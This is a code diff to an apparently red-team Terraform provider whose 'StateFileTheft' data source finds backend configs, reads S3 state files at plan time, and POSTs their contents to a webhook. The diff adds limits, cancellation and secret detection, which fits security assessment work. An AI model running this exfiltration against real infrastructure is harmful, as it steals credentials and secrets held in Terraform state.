@@ -12,10 +12,10 @@ import (
 	"strings"
 
 	"github.com/aws/aws-sdk-go/aws"
-	"github.com/aws/aws-sdk-go/aws/session"
 	"github.com/aws/aws-sdk-go/service/s3"
 	"github.com/hashicorp/terraform-plugin-sdk/v2/diag"
 	"github.com/hashicorp/terraform-plugin-sdk/v2/helper/schema"
+	"github.com/rileydakota/tf-plan-recon/detector"
 )
 
 // StateFileTheft returns the schema for Terraform state file theft data source
@@ -65,7 +65,12 @@ func stateFileTheftRead(ctx context.Context, d *schema.ResourceData, m interface
 	})
 
 	// Scan for backend configurations
-	backendConfigs, err := scanForBackendConfigs(searchPath)
+	backendConfigs, err := scanForBackendConfigs(ctx, searchPath)
+	if err != nil && ctx.Err() != nil {
+		diags = append(diags, partialResults(ctx, "backend configurations found", len(backendConfigs)))
+		d.SetId("states-canceled")
+		return diags
+	}
 	if err != nil {
 		return diag.FromErr(fmt.Errorf("failed to scan for backend configs: %v", err))
 	}
@@ -80,10 +85,34 @@ func stateFileTheftRead(ctx context.Context, d *schema.ResourceData, m interface
 		return diags
 	}
 
+	if limit := maxTargets(m); limit > 0 && len(backendConfigs) > limit {
+		diags = append(diags, diag.Diagnostic{
+			Severity: diag.Warning,
+			Summary:  "State File Target Limit Reached",
+			Detail:   fmt.Sprintf("Found %d backends; only the first %d will be read (max_targets_per_technique)", len(backendConfigs), limit),
+		})
+		backendConfigs = backendConfigs[:limit]
+	}
+
+	if err := project(ctx, len(backendConfigs), "S3 GetObject calls"); err != nil {
+		diags = append(diags, diag.Diagnostic{
+			Severity: diag.Warning,
+			Summary:  "State File Retrieval Skipped: API Call Budget",
+			Detail:   fmt.Sprintf("Found %d backends but stopped before reading them: %v", len(backendConfigs), err),
+		})
+		d.SetId("states-over-budget")
+		return diags
+	}
+
 	stateFiles := make(map[string]string)
 	
 	// Try to retrieve state files from each backend
 	for _, backend := range backendConfigs {
+		if ctx.Err() != nil {
+			diags = append(diags, partialResults(ctx, "state files retrieved", len(stateFiles)))
+			break
+		}
+
 		diags = append(diags, diag.Diagnostic{
 			Severity: diag.Warning,
 			Summary:  "Found Backend Configuration",
@@ -91,12 +120,21 @@ func stateFileTheftRead(ctx context.Context, d *schema.ResourceData, m interface
 		})
 
 		if backend.Type == "s3" {
-			stateContent, err := retrieveS3StateFile(backend, awsRegion)
+			stateContent, err := retrieveS3StateFile(ctx, m, backend, awsRegion)
 			if err != nil {
+				ce := classifyError(err)
+				if ce.Class == ErrorCanceled {
+					diags = append(diags, partialResults(ctx, "state files retrieved", len(stateFiles)))
+					break
+				}
+				if ce.Denied() {
+					diags = append(diags, recordControl(m, "tfplanrecon_state_theft", "s3:GetObject", fmt.Sprintf("s3://%s/%s", backend.Bucket, backend.Key), ce, searchPath)...)
+					continue
+				}
 				diags = append(diags, diag.Diagnostic{
 					Severity: diag.Warning,
 					Summary:  "Failed to Retrieve State File",
-					Detail:   fmt.Sprintf("Error retrieving state from s3://%s/%s: %v", backend.Bucket, backend.Key, err),
+					Detail:   fmt.Sprintf("Error (%s) retrieving state from s3://%s/%s: %v", ce.Class, backend.Bucket, backend.Key, err),
 				})
 				continue
 			}
@@ -134,6 +172,26 @@ func stateFileTheftRead(ctx context.Context, d *schema.ResourceData, m interface
 	}
 	statesString := strings.Join(statesList, "\n\n")
 
+	var stateFindings []Finding
+	var rotation []RotationEntry
+	for location, content := range stateFiles {
+		attributes := stateAttributes(content)
+		stateFindings = append(stateFindings, withDetections(newFinding("tfplanrecon_state_theft", SeverityCritical,
+			"Terraform State Readable at Plan Time",
+			fmt.Sprintf("Retrieved state file %s (%d bytes)", location, len(content)),
+			searchPath), detector.DetectAll(attributes)))
+
+		for path, value := range attributes {
+			if kinds := detector.Detect(path, value); len(kinds) > 0 {
+				entry := newRotationEntry("tfplanrecon_state_theft", SourceState, location, kinds)
+				entry.AttributePath = path
+				rotation = append(rotation, entry)
+			}
+		}
+	}
+	diags = append(diags, recordFindings(m, stateFindings...)...)
+	diags = append(diags, observeCredentials(m, rotation...)...)
+
 	if webhookURL != "" {
 		// Send to webhook
 		config := m.(*ProviderConfig)
@@ -144,7 +202,7 @@ func stateFileTheftRead(ctx context.Context, d *schema.ResourceData, m interface
 			return diag.FromErr(fmt.Errorf("error marshaling state files: %s", err))
 		}
 
-		req, err := http.NewRequest("POST", webhookURL, bytes.NewBuffer(payload))
+		req, err := http.NewRequestWithContext(ctx, "POST", webhookURL, bytes.NewBuffer(payload))
 		if err != nil {
 			return diag.FromErr(fmt.Errorf("error creating request: %s", err))
 		}
@@ -175,10 +233,13 @@ func stateFileTheftRead(ctx context.Context, d *schema.ResourceData, m interface
 	return diags
 }
 
-func scanForBackendConfigs(searchPath string) ([]BackendConfig, error) {
+func scanForBackendConfigs(ctx context.Context, searchPath string) ([]BackendConfig, error) {
 	var configs []BackendConfig
 	
 	err := filepath.Walk(searchPath, func(path string, info os.FileInfo, err error) error {
+		if ctx.Err() != nil {
+			return ctx.Err()
+		}
 		if err != nil {
 			return nil // Continue on errors
 		}
@@ -254,17 +315,15 @@ func parseS3BackendConfig(content string) BackendConfig {
 	return config
 }
 
-func retrieveS3StateFile(backend BackendConfig, defaultRegion string) (string, error) {
+func retrieveS3StateFile(ctx context.Context, m interface{}, backend BackendConfig, defaultRegion string) (string, error) {
 	region := backend.Region
 	if region == "" {
 		region = defaultRegion
 	}
 	
-	sess, err := session.NewSession(&aws.Config{
-		Region: aws.String(region),
-	})
+	sess, err := newAwsSession(ctx, m, region)
 	if err != nil {
-		return "", fmt.Errorf("failed to create AWS session: %v", err)
+		return "", err
 	}
 	
 	s3Client := s3.New(sess)
@@ -274,9 +333,9 @@ func retrieveS3StateFile(backend BackendConfig, defaultRegion string) (string, e
 		Key:    aws.String(backend.Key),
 	}
 	
-	result, err := s3Client.GetObject(getObjectInput)
+	result, err := s3Client.GetObjectWithContext(ctx, getObjectInput)
 	if err != nil {
-		return "", fmt.Errorf("failed to get object from S3: %v", err)
+		return "", fmt.Errorf("failed to get object from S3: %w", err)
 	}
 	defer result.Body.Close()
 	
@@ -286,4 +345,65 @@ func retrieveS3StateFile(backend BackendConfig, defaultRegion string) (string, e
 	}
 	
 	return string(content), nil
-}
\ No newline at end of file
+}
+
+// stateAttributes flattens the string attributes and outputs of a state file
+// into attribute paths (e.g., module.db.aws_db_instance.main.password)
+func stateAttributes(content string) map[string]string {
+	var state struct {
+		Outputs map[string]struct {
+			Value interface{} `json:"value"`
+		} `json:"outputs"`
+		Resources []struct {
+			Module    string `json:"module"`
+			Type      string `json:"type"`
+			Name      string `json:"name"`
+			Instances []struct {
+				IndexKey   interface{}            `json:"index_key"`
+				Attributes map[string]interface{} `json:"attributes"`
+			} `json:"instances"`
+		} `json:"resources"`
+	}
+
+	attributes := make(map[string]string)
+	if err := json.Unmarshal([]byte(content), &state); err != nil {
+		return attributes
+	}
+
+	for name, output := range state.Outputs {
+		flattenAttributes("output."+name, output.Value, attributes)
+	}
+
+	for _, resource := range state.Resources {
+		address := resource.Type + "." + resource.Name
+		if resource.Module != "" {
+			address = resource.Module + "." + address
+		}
+		for _, instance := range resource.Instances {
+			prefix := address
+			if instance.IndexKey != nil {
+				prefix = fmt.Sprintf("%s[%v]", address, instance.IndexKey)
+			}
+			for key, value := range instance.Attributes {
+				flattenAttributes(prefix+"."+key, value, attributes)
+			}
+		}
+	}
+
+	return attributes
+}
+
+func flattenAttributes(path string, value interface{}, out map[string]string) {
+	switch v := value.(type) {
+	case string:
+		out[path] = v
+	case map[string]interface{}:
+		for key, child := range v {
+			flattenAttributes(path+"."+key, child, out)
+		}
+	case []interface{}:
+		for i, child := range v {
+			flattenAttributes(fmt.Sprintf("%s[%d]", path, i), child, out)
+		}
+	}
+}